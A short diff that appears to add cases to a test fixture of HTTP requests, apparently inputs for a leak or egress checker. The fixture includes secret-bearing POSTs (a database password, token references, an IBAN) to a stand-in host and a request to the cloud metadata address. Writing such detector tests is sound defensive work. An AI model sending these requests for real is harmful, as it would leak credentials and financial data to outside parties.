@@ -43,6 +43,9 @@ HOME: tuple[tuple[str, str, object], ...] = (
     ("POST", "http://localhost:8080/x", {"DB_PASSWORD": "hunter2hunter2"}),
     ("POST", "https://b.example/in", {"DB_PASSWORD": "${DB_PASSWORD}", "MAX_TOKENS": "40000000"}),
     ("POST", "https://slack.com/api/chat.postMessage", {"text": "I reset my password today"}),
+    ("PUT", "https://b.example/p/7", {"content": "const TOKEN = process.env.DEPLOY_TOKEN"}),
+    ("POST", "https://b.example/p", {"body": "set API_TOKEN=your-own-token-here"}),
+    ("POST", "https://transfer.b.example/in", {"iban": "DE02 1203 0000 0000 2020 51"}),
     ("POST", "https://webhook.site/7", {"event": "build", "status": "green"}),
     ("GET", "http://169.254.169.254/latest/meta-data/instance-id", None),
 )
